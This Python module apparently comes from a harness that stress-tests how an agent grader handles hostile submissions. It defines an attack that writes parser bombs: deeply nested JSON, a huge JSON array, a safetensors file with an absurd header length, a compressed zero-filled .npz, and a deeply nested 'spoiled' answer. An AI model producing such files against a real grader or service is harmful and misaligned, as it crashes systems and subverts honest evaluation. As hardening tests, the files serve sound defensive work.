"""Row 10: answers and files that bring parsers down."""

from runners.agents._attacks._attack import Attack

CODE = """\
import os, zlib
os.makedirs("outputs", exist_ok=True)
open("outputs/submission.json", "w").write("[" * 100_000)
open("outputs/objects.json", "w").write("[" + "{}," * 500_000 + "{}]")
with open("outputs/weights.safetensors", "wb") as file:
    file.write((2**63 - 1).to_bytes(8, "little") + b"{}")
with open("outputs/data.npz", "wb") as file:
    file.write(zlib.compress(b"0" * 20_000_000))
print("written")
"""

attack = Attack(
    rows=(10,),
    summary="hands in parser bombs",
    cells=(CODE,),
    spoiled='{"a":' * 600 + "9" * 5_000,
)
